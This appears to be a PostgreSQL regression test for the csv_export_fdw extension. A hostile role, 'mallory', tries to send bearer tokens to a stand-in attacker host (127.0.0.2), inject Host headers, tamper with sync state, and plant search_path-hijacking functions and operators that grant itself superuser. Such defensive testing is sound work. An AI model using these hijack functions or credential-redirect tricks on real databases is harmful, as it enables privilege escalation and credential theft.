--
-- Least privilege, tried as a hostile role would: mallory has USAGE on a
-- server (and, later, what csv_export.grant_sync gives a sync runner).
-- 127.0.0.2 plays the attacker's host.
--
SET client_min_messages = warning;
CREATE SERVER api FOREIGN DATA WRAPPER csv_export_fdw
  OPTIONS (base_url 'http://127.0.0.1:5001', retries '0');
CREATE USER MAPPING FOR PUBLIC SERVER api OPTIONS (bearer_token 's3cret-token');
CREATE ROLE mallory;
CREATE ROLE alice;
GRANT USAGE ON FOREIGN SERVER api TO mallory, alice;
GRANT USAGE ON SCHEMA csv_export TO mallory, alice;
GRANT CREATE ON SCHEMA public TO mallory, alice;
CREATE USER MAPPING FOR alice SERVER api OPTIONS (bearer_token 'alice-token');

-- 1 and 7. A table's URL cannot leave the origins its server's owner chose,
-- and credentials go to the base_url's origin only
SET ROLE mallory;
CREATE FOREIGN TABLE steal (name text, value text) SERVER api
  OPTIONS (url 'http://127.0.0.2:5001/headers');
SELECT * FROM steal;
CREATE FOREIGN TABLE home (name text, value text) SERVER api OPTIONS (path '/headers');
SELECT name, value LIKE 'Bearer %' AS credentials FROM home WHERE name = 'authorization';
RESET ROLE;
-- the owner may allow another origin: requests go there without credentials,
-- whoever reads the table (alice, through mallory's table, too)
ALTER SERVER api OPTIONS (ADD allowed_origins 'http://127.0.0.2:5001');
SET ROLE mallory;
SELECT name FROM steal WHERE name IN ('authorization', 'host', 'x-api-key') ORDER BY name;
GRANT SELECT ON steal TO alice;
SET ROLE alice;
SELECT name FROM steal WHERE name IN ('authorization', 'host', 'x-api-key') ORDER BY name;
RESET ROLE;
-- allowed_origins names origins, and only the server's owner sets it
ALTER SERVER api OPTIONS (SET allowed_origins 'http://127.0.0.2:5001/path');
SET ROLE mallory;
ALTER SERVER api OPTIONS (SET allowed_origins '*');
RESET ROLE;

-- 7. Networks no request connects to, checked on the address before
-- connecting (127.0.0.2 stands in for 169.254.169.254 here)
SHOW csv_export_fdw.blocked_networks;
SET csv_export_fdw.blocked_networks = '127.0.0.2/32';
SELECT count(*) FROM steal;
SET csv_export_fdw.blocked_networks = '127.0.0.0/30, ::1';
SELECT count(*) FROM home;
RESET csv_export_fdw.blocked_networks;
SET csv_export_fdw.blocked_networks = '127.0.0.2/33';
SET ROLE mallory;
SET csv_export_fdw.blocked_networks = '';
RESET ROLE;

-- 6. Headers that change where or how a request goes: superusers only
SET ROLE mallory;
CREATE FOREIGN TABLE steer (id text) SERVER api
  OPTIONS (path '/export/csv', headers E'Accept: text/csv\nHost: internal.example');
CREATE USER MAPPING FOR mallory SERVER api OPTIONS (headers 'transfer-encoding: chunked');
RESET ROLE;
CREATE FOREIGN TABLE steer (name text, value text) SERVER api
  OPTIONS (path '/headers', headers 'X-Forwarded-Host: 127.0.0.1');
SELECT value FROM steer WHERE name = 'x-forwarded-host';

-- 5. A basic-auth credential echoed back is redacted in its base64 form too
CREATE SERVER basic_api FOREIGN DATA WRAPPER csv_export_fdw
  OPTIONS (base_url 'http://127.0.0.1:5001', retries '0');
CREATE USER MAPPING FOR CURRENT_USER SERVER basic_api
  OPTIONS (username 'alice', password 'not-wonderland');
CREATE FOREIGN TABLE basic_echo (id text) SERVER basic_api OPTIONS (path '/auth/basic');
SELECT * FROM basic_echo;

-- 2. search_path: functions and operators mallory puts first on the path
-- never run inside the extension, also when a superuser syncs
SET ROLE mallory;
CREATE FUNCTION public.array_to_string(text[], text) RETURNS text LANGUAGE plpgsql AS $$
BEGIN ALTER ROLE mallory SUPERUSER; RAISE WARNING 'hijacked: array_to_string'; RETURN ''; END $$;
CREATE FUNCTION public.unnest(text[]) RETURNS SETOF text LANGUAGE plpgsql AS $$
BEGIN ALTER ROLE mallory SUPERUSER; RAISE WARNING 'hijacked: unnest'; END $$;
CREATE FUNCTION public.concat_ws(text, text, text) RETURNS text LANGUAGE plpgsql AS $$
BEGIN ALTER ROLE mallory SUPERUSER; RAISE WARNING 'hijacked: concat_ws'; RETURN ''; END $$;
CREATE FUNCTION public.evil_eq(regclass, regclass) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN ALTER ROLE mallory SUPERUSER; RAISE WARNING 'hijacked: ='; RETURN $1::oid = $2::oid; END $$;
CREATE OPERATOR public.= (LEFTARG = regclass, RIGHTARG = regclass, FUNCTION = public.evil_eq);
CREATE FUNCTION public.evil_text_eq(text, name) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN ALTER ROLE mallory SUPERUSER; RAISE WARNING 'hijacked: text = name'; RETURN $1 = $2::text; END $$;
CREATE OPERATOR public.= (LEFTARG = text, RIGHTARG = name, FUNCTION = public.evil_text_eq);
RESET ROLE;
CREATE FOREIGN TABLE users_export (id text, name text, "updatedAt" timestamptz) SERVER api
  OPTIONS (path '/export/csv?rows=20');
CREATE TABLE users (id text PRIMARY KEY, name text, "updatedAt" timestamptz, _deleted boolean);
SET search_path = "$user", public;
CALL csv_export.sync('users_export', 'users');
CALL csv_export.sync('users_export', 'users', delete_missing => true);
CALL csv_export.sync('users_export', 'users', cursor_column => 'updatedAt');
SELECT csv_export.grant_sync('alice');
SELECT csv_export.revoke_sync('alice');
RESET search_path;
SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory';
SELECT count(*) FROM users;
-- (this test's own queries below are not pinned: the traps go now)
DROP FUNCTION public.array_to_string(text[], text), public.unnest(text[]),
  public.concat_ws(text, text, text), public.evil_eq(regclass, regclass),
  public.evil_text_eq(text, name) CASCADE;

-- 3. The state of syncs is written only by a sync, for a caller who may
-- write its target, and read only for targets the reader may read
CREATE TABLE alice_target (id text PRIMARY KEY, name text);
ALTER TABLE alice_target OWNER TO alice;
GRANT SELECT ON users_export TO alice;
SELECT csv_export.grant_sync('alice');
SET ROLE alice;
CALL csv_export.sync('users_export', 'alice_target');
SELECT target, last_status, runs FROM csv_export.sync_state;
SELECT target, status FROM csv_export.runs;
SET ROLE mallory;
SELECT count(*) AS state_rows_seen FROM csv_export.sync_state;
SELECT count(*) AS runs_seen FROM csv_export.runs;
UPDATE csv_export.sync_state SET cursor_value = '9999-12-31';
INSERT INTO csv_export.sync_log (target, source, started_at, status)
  VALUES ('alice_target', 'users_export', now(), 'succeeded');
SELECT csv_export._run_start('users_export', 'alice_target', NULL);
RESET ROLE;
-- even with what a sync runner gets, a sync of a target mallory may not
-- write fails before it records, counts or locks anything
SELECT csv_export.grant_sync('mallory');
SELECT run_id AS alice_run FROM csv_export.sync_log WHERE target = 'alice_target'::regclass \gset
SET ROLE mallory;
CALL csv_export.sync('users_export', 'alice_target');
SELECT csv_export._run_start('users_export', 'alice_target', NULL);
-- (its message names the run's number: the SQLSTATE alone)
\set VERBOSITY sqlstate
SELECT csv_export._run_finish(:alice_run, 'succeeded', NULL, NULL, NULL, '9999-12-31', NULL,
                              0, 0, 0, 0, NULL);
\set VERBOSITY default
RESET ROLE;
SELECT target, last_status, runs FROM csv_export.sync_state WHERE target = 'alice_target'::regclass;
SELECT count(*) AS alice_runs FROM csv_export.sync_log WHERE target = 'alice_target'::regclass;

-- 8. ANALYZE reads the export with the table owner's user mapping, as
-- postgres_fdw does: the superuser's own mapping here has a wrong token
CREATE USER MAPPING FOR CURRENT_USER SERVER api OPTIONS (bearer_token 'wrong-token');
CREATE FOREIGN TABLE alice_analyzed (id text, name text) SERVER api
  OPTIONS (path '/auth/bearer?rows=7');
ALTER FOREIGN TABLE alice_analyzed OWNER TO alice;
ALTER USER MAPPING FOR alice SERVER api OPTIONS (SET bearer_token 's3cret-token');
ANALYZE alice_analyzed;
SELECT reltuples FROM pg_class WHERE relname = 'alice_analyzed';

RESET client_min_messages;
SELECT csv_export.revoke_sync('alice');
SELECT csv_export.revoke_sync('mallory');
DROP TABLE users, alice_target;
DELETE FROM csv_export.sync_log;
DELETE FROM csv_export.sync_state;
DROP SERVER api, basic_api CASCADE;
REVOKE ALL ON SCHEMA csv_export, public FROM mallory, alice;
DROP ROLE mallory, alice;
